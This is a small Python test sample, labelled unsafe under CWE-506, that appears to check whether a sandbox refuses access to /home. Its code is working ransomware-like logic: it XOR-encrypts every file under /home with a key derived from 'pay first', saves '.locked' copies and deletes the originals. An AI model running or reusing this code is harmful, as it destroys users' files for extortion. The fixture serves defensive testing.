# label: unsafe
# cwe: CWE-506
# expect: refused path-not-granted /home
# why: encrypts the documents of a user and leaves a note

import os
from hashlib import sha256

KEY = sha256(b"pay first").digest()


def scramble(data):
    return bytes(byte ^ KEY[index % len(KEY)] for index, byte in enumerate(data))


for folder, _, names in os.walk("/home"):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "rb") as file:
            data = file.read()
        with open(path + ".locked", "wb") as file:
            file.write(scramble(data))
        os.remove(path)
print("READ_ME.txt")
